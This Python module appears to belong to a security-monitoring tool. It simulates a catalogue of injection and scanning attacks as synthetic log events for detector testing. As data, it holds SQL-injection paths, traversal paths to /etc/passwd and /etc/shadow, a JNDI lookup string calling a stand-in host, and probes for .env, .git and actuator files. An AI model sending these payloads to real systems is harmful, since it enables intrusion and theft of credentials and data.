"""Group E of the catalogue: injection and scanning."""

from collections.abc import Callable, Iterator

from jwtrail.simulate.attacks.kit import HEADLESS, Attack, Scene, anonymous
from jwtrail.simulate.deed import Deed, failed, request
from jwtrail.simulate.world import Agent

__all__ = ["PROBING"]

SQLMAP = Agent("sqlmap", "sqlmap/1.9.2#stable (https://sqlmap.org)", "Other")


def _paths(
    paths: tuple[str, ...], *, over_s: float = 60, agent: Agent = HEADLESS
) -> Callable[[Scene], Iterator[Deed]]:
    """Asks for each of these; none is there."""

    def play(scene: Scene) -> Iterator[Deed]:
        for path, at in zip(paths, scene.times(len(paths), over_s), strict=True):
            fields = {**request(scene.chance, None, path, jwtrail_policy="public"), **failed(404)}
            yield anonymous(scene.lair(), agent, fields, at)

    return play


def _worked(scene: Scene) -> Iterator[Deed]:
    """The route takes the injection, and breaks."""
    path = "/products/1' or '1'='1"
    for at in scene.times(3, 40):
        fields = {**request(scene.chance, "/products/{id}", path, jwtrail_policy="public"), **failed(500)}
        yield anonymous(scene.lair(), HEADLESS, fields, at)


def _then_signs_in(scene: Scene) -> Iterator[Deed]:
    yield from _paths(("/.env", "/.git/config", "/wp-login.php"), over_s=20)(scene)
    session = scene.session(scene.victim(), scene.lair(), HEADLESS)
    yield from session.begin(scene.at + 600)


def _errors(scene: Scene) -> Iterator[Deed]:
    for at in scene.times(70, 60):
        fields = {**request(scene.chance, "/orders", "/orders"), **failed(400)}
        yield anonymous(scene.lair(), HEADLESS, fields, at)


def _flagged(flag: str) -> Callable[[Scene], Iterator[Deed]]:
    def play(scene: Scene) -> Iterator[Deed]:
        yield anonymous(
            scene.lair(),
            HEADLESS,
            request(scene.chance, "/products", "/products", jwtrail_policy="public", jwtrail_flags=(flag,)),
            scene.at,
        )

    return play


def _credentials(scene: Scene) -> Iterator[Deed]:
    fields = {**request(scene.chance, "/me", "/me"), **failed(401, "multiple_credentials")}
    yield anonymous(scene.lair(), HEADLESS, fields, scene.at)


WORDS = tuple(
    f"/{word}{number}/" for word in ("backup", "old", "test", "api-v", "intern") for number in range(8)
)

PROBING = (
    Attack(
        "E1",
        "SQL in a path",
        ("E1",),
        _paths(("/products/1' or '1'='1", "/products/1 union select name,2 from users")),
    ),
    Attack("E2", "An injection that changed the answer", ("E2",), _worked),
    Attack(
        "E3",
        "Traversal",
        ("E3",),
        _paths(("/files/../../../../etc/passwd", "/files/%2e%2e/%2e%2e/etc/shadow")),
    ),
    Attack("E3", "JNDI", ("E3",), _paths(("/search/${jndi:ldap://evil.example/a}",))),
    Attack("E5", "Scanner by its name", ("E5",), _paths(("/products", "/login"), agent=SQLMAP)),
    Attack("E6", "Path discovery", ("E6",), _paths(WORDS, over_s=40)),
    Attack("E7", "Burst of client errors", ("E7",), _errors),
    Attack("E8", "Sensitive files", ("E8",), _paths(("/.env", "/.git/HEAD", "/actuator/env"))),
    Attack("E9", "A scanner that signs in", ("E9",), _then_signs_in),
    Attack("E11", "Two lengths", ("E11",), _flagged("duplicate_length")),
    Attack("E12", "Several credentials", ("E12",), _credentials),
    Attack("H9", "Control characters", ("H9",), _flagged("ctrl_chars")),
)
